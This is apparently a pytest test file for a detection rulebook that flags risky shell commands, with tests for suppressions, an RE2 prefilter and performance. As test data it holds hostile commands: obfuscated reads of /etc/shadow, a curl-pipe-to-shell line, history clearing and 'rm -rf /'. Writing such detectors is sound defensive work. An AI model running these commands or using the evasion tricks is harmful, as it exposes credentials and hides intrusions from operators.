"""The rulebook as others use it: parsed commands rather than words, suppressions, the server-side filter, hostile texts."""

from __future__ import annotations

import json
import re
import time
from datetime import date
from pathlib import Path

import pytest
import re2
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.core.model import Finding, Level
from bot.core.rules import Malformed, Rulebook, Source, Suppression, expired, mark
from bot.core.rules.suppress import read
from queries.rulebook import load

BOOK = load()


@pytest.mark.parametrize(
    "text",
    [
        "grep passwd access.log",
        "man sudo",
        'echo "curl http://203.0.113.5/x | sh"',
        'git commit -m "rm -rf /"',
        "vim docs/ssh-hardening.md",
        "ls -l ~/.ssh",
        "kubectl logs deploy/api | grep -i denied",
        "tail -f /var/log/auth.log",
        "systemctl status auditd",
        "curl -fsSL https://example.com/key.gpg | gpg --dearmor",
    ],
)
def test_a_word_alone_says_nothing(text: str) -> None:
    """Risky words in arguments, messages and file names are no findings."""
    assert [] == [found.rule for found in BOOK.judge(text, "linux") if found.level > Level.INFORMATIONAL]


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        pytest.param("c\\at /etc/sha''dow", "secret_file_read", id="escapes and quotes"),
        pytest.param("x=cat; $x /etc/shadow", "secret_file_read", id="a variable"),
        pytest.param("cat${IFS}/etc/shadow", "secret_file_read", id="IFS"),
        pytest.param("bash -c 'sudo cat /etc/shadow'", "secret_file_read", id="a shell's text"),
        pytest.param("find / -exec cat /etc/shadow \\;", "secret_file_read", id="find -exec"),
        pytest.param("echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh", "secret_file_read", id="base64"),
        pytest.param("ssh web01 'cat /etc/shadow'", "secret_file_read", id="over ssh"),
        pytest.param("sh <<EOF\ncat /etc/shadow\nEOF\n", "secret_file_read", id="a here-document"),
        pytest.param("$(echo cat) /etc/shadow", "secret_file_read", id="a constant substitution"),
    ],
)
def test_hidden_words_are_found(text: str, rule: str) -> None:
    """A command is found however its words are hidden."""
    assert rule in [found.rule for found in BOOK.judge(text, "linux")]


def test_worst_first_and_one_a_rule() -> None:
    """Findings are unique by rule and sorted by level."""
    found = BOOK.judge("sudo cat /etc/shadow; cat /etc/shadow; history -c; sudo -l", "linux")
    assert len(found) == len({each.rule for each in found})
    assert sorted((each.level for each in found), reverse=True) == [each.level for each in found]


def test_rules_are_found_by_name_id_and_title() -> None:
    """`named` takes a name, an id or a title, in any case."""
    rule = BOOK.named("history_cleared")
    assert rule is not None
    assert rule is BOOK.named(rule.id)
    assert rule is BOOK.named(rule.title.upper())
    assert BOOK.named("no such rule") is None


@pytest.mark.parametrize("platform", ["linux", "windows"])
def test_the_server_side_filter(platform: str) -> None:
    """Patterns fit Insights' 10,000 characters, compile in RE2, and keep every plain example that a rule fires on."""
    made = BOOK.prefilter(platform)
    compiled = [re2.compile("(?i)" + each) for each in made]
    plain = [
        example
        for rule in BOOK.of(platform)
        for example in rule.fires_on
        if isinstance(example, str) and not set("\\'\"`^$%{+") & set(example) and "base64" not in example
    ]
    assert sum(map(len, made)) <= 10_000
    assert [] == [text for text in plain if not any(each.search(text) for each in compiled)]
    assert not any("/" in re.sub(r"\\/", "", each) for each in made)


FINDING = Finding("history_cleared", "The command history is cleared", Level.HIGH, text="history -c", actor="arn:…/ann", target="i-0abc")
DAY = date(2026, 11, 23)
GOOD = "- rule: history_cleared\n  owner: sec@example.com\n  reason: lab\n  until: 2026-12-31\n  target: i-0abc\n"


def test_a_suppressed_finding_is_marked_not_dropped() -> None:
    """Every finding comes back; the suppressed one with what suppresses it."""
    (rule,) = read(Source("s.yml", GOOD))
    other = Finding("x", "X", Level.LOW)
    assert [(FINDING, rule), (other, None)] == [(each.finding, each.by) for each in mark([FINDING, other], [rule], DAY)]


def test_a_suppression_ends() -> None:
    """After its last day it fits nothing, and is told as expired."""
    (rule,) = read(Source("s.yml", GOOD))
    assert rule.fits(FINDING, date(2026, 12, 31))
    assert not rule.fits(FINDING, date(2027, 1, 1))
    assert (rule,) == expired([rule], date(2027, 1, 1))


def test_every_entity_must_fit() -> None:
    """Two entities both have to be the finding's."""
    rule = Suppression("history_cleared", "o", "r", date(2027, 1, 1), actor="ann", target="i-9")
    assert not rule.fits(FINDING, DAY)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        pytest.param(GOOD.replace("  owner: sec@example.com\n", ""), "owner", id="no owner"),
        pytest.param(GOOD.replace("2026-12-31", "soon"), "until", id="no day"),
        pytest.param(GOOD.replace("  target: i-0abc\n", ""), "entity", id="no entity"),
        pytest.param(GOOD + "  targett: x\n", "targett", id="a slip of the pen"),
        pytest.param("rule: x\n", "list", id="no list"),
    ],
)
def test_a_bad_suppression_is_refused_with_its_line(text: str, words: str) -> None:
    """Owner, reason, end and entity are asked for, by file and line."""
    with pytest.raises(Malformed, match=f"s.yml:1.*{words}"):
        read(Source("s.yml", text))


@settings(deadline=None, max_examples=150)
@given(st.one_of(st.text(max_size=200), st.text(alphabet="$(){}[]<>|&;'\"`\\ \n#!*?~=abc/-0^%@,.+:", max_size=120)))
def test_judging_never_raises(text: str) -> None:
    """Any text gives findings or none, on every platform."""
    for platform in ("linux", "windows", "macos"):
        assert isinstance(BOOK.judge(text, platform), tuple)


LONG = 100_000


@pytest.mark.parametrize(
    "unit",
    [
        "sudo ",
        "$(",
        "`",
        "((",
        "{a,b}",
        "| sh ",
        "'\"",
        "\\",
        "cat /etc/shadow;",
        "<<EOF\n",
        "-enc AAAA ",
        "a=b ",
        "if ",
        "é",
        "%a%",
        "& ",
        "[(",
        "x`y",
    ],
)
@pytest.mark.parametrize("platform", ["linux", "windows"])
def test_judging_stays_linear(unit: str, platform: str) -> None:
    """A hundred thousand hostile characters are judged in a few seconds at most, also on a slow machine."""
    text = (unit * LONG)[:LONG]
    start = time.process_time()
    BOOK.judge(text, platform)
    assert time.process_time() - start < 5


@pytest.mark.parametrize(
    ("os", "label", "level", "least", "most"),
    [
        pytest.param("linux", "must-flag", Level.LOW, 0.95, 1.0, id="Linux must-flag"),
        pytest.param("windows", "must-flag", Level.LOW, 0.95, 1.0, id="Windows must-flag"),
        pytest.param("linux", "should-not-flag", Level.LOW, 0.0, 0.02, id="Linux hard negatives"),
        pytest.param("windows", "should-not-flag", Level.LOW, 0.0, 0.02, id="Windows hard negatives"),
    ],
)
def test_the_gold_set(book: Rulebook, corpus: Path, os: str, label: str, level: Level, least: float, most: float) -> None:
    """On the hand-made set, risky commands are found and hard benign ones are not."""
    rows = [json.loads(line) for line in (corpus / "gold.jsonl").read_text(encoding="utf-8").splitlines()]
    mine = [row for row in rows if (row["os"], row["label"]) == (os, label)]
    hits = sum(any(found.level >= level for found in book.judge(row["text"], os)) for row in mine)
    assert least <= hits / len(mine) <= most


def test_every_critical_one_is_found(book: Rulebook, corpus: Path) -> None:
    """No critical command of the hand-made set is missed."""
    rows = [json.loads(line) for line in (corpus / "gold.jsonl").read_text(encoding="utf-8").splitlines()]
    missed = [row["text"] for row in rows if row["severity"] == "critical" if not book.judge(row["text"], row["os"])]
    assert [] == missed
